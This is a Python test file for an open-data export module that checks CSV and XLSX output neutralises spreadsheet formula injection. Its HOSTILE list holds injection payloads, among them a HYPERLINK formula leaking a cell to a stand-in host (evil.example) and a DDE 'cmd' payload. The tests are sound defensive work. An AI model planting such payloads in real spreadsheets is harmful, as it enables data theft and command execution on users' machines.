"""Text that a spreadsheet would run as a formula is neutralised: an apostrophe in CSV, a text cell in XLSX."""

from __future__ import annotations

import io

import openpyxl
import pytest

from prongsai.opendata.tests.helpers import csv_rows, json_document, plan_url, publish
from prongsai.opendata.writers import neutralised
from prongsai.plans import actions

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(plan, people):
    mission = plan.missions.get(code="3.1")
    for title in HOSTILE:
        actions.add_item(
            people["alice"],
            plan,
            mission,
            actions.ItemData(kind="measure", title=title, responsible_unit=title),
        )
    return publish(plan)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["โครงการ", "1.1", "", "ก=1", "'=already"])
def test_other_text_is_left_alone(text):
    assert neutralised(text) == text


def test_csv_cells_that_could_be_formulas_start_with_an_apostrophe(hostile, client):
    rows = csv_rows(client.get(plan_url("plan_items", hostile, "csv", rev=1)))
    stored = {item.title for item in hostile.items.all()}  # as the actions kept them (trimmed)
    dangerous = {title for title in stored if title.startswith(("=", "+", "-", "@"))}
    assert len(dangerous) >= 4
    titles = {row["ชื่อโครงการ/กิจกรรม/มาตรการ"] for row in rows}
    units = {row["หน่วยงานที่รับผิดชอบ"] for row in rows}
    assert {"'" + title for title in dangerous} <= titles
    assert {"'" + unit for unit in dangerous} <= units | titles
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_every_text_column_is_neutralised_including_tab_and_carriage_return():
    from prongsai.opendata.writers import csv_text

    assert csv_text("\t=1+1") == "'\t=1+1"
    assert csv_text("\r=1+1") == "'\r=1+1"
    assert csv_text(-1) == "-1"  # numbers are not text: never changed


def test_xlsx_stores_them_as_text_never_as_formulas(hostile, client):
    response = client.get(plan_url("plan_items", hostile, "xlsx", rev=1))
    workbook = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    titles = {item.title for item in hostile.items.all()}
    assert titles <= {cell.value for cell in cells if cell.data_type == "s"}


def test_json_keeps_the_text_exactly(hostile, client):
    document = json_document(client.get(plan_url("plan_items", hostile, "json", rev=1)))
    assert {item.title for item in hostile.items.all()} == {i["title"] for i in document["items"]}
